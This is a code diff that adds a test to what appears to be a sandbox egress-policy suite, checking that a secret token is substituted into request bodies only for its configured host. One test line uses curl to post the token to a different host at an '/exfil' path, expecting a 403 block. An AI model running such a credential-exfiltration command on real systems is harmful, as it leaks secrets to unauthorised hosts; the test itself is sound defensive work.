@@ -248,3 +248,24 @@ describe.skipIf(!canRunNamespaces)('egress events', () => {
     expect(got).toEqual([`allow ${ALLOWED.name}`, `deny ${DENIED.name}`]);
   });
 });
+
+describe.skipIf(!canRunNamespaces)('secrets in request bodies', () => {
+  it('are swapped in bodies only when configured, and a sentinel in a body to another host is blocked', async () => {
+    const spec = {
+      network: policy,
+      secrets: [
+        { name: 'TEST_TOKEN', value: { fromEnv: 'TEST_TOKEN' }, hosts: [SECRET_HOST.name], body: true },
+      ],
+    };
+    await withSandbox(spec, async (s) => {
+      const ok = await s.exec(`curl -sS -m 10 -d "token=$TEST_TOKEN&x=1" https://${SECRET_HOST.name}/form`);
+      expect(ok.exitCode, ok.stderr).toBe(0);
+      expect(JSON.parse(ok.stdout).body).toBe('token=real-secret-value-42&x=1');
+      const leak = await s.exec(
+        `curl -sS -m 10 -w '\\n%{http_code}' -d "token=$TEST_TOKEN" http://${ALLOWED.name}/exfil`,
+      );
+      expect(leak.stdout).toMatch(/request body carries the credential TEST_TOKEN[\s\S]*403$/);
+      expect(servers.seen.some((q) => q.url === '/exfil' && q.body.includes('airlock_sentinel'))).toBe(false);
+    });
+  });
+});
